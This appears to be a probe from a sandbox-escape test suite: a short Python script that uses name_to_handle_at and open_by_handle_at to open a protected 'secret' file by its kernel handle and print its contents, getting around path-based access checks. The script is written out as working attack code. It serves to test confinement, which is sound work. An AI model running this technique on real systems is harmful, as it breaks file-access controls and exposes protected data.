# A file by its number on the disk: no path, so no check of one.
import ctypes
import os

from calls import AT_FDCWD, call
from inside import run, show


def attack(target):
    handle = ctypes.create_string_buffer(b"\x80\0\0\0", 136)  # handle_bytes: 128
    mount = ctypes.create_string_buffer(4)
    call("name_to_handle_at", AT_FDCWD, target.secret.encode(), handle, mount, 0)
    near = os.open(target.work, os.O_RDONLY)  # anything on the same file system
    show(os.read(call("open_by_handle_at", near, handle, os.O_RDONLY), 100))


run(attack)
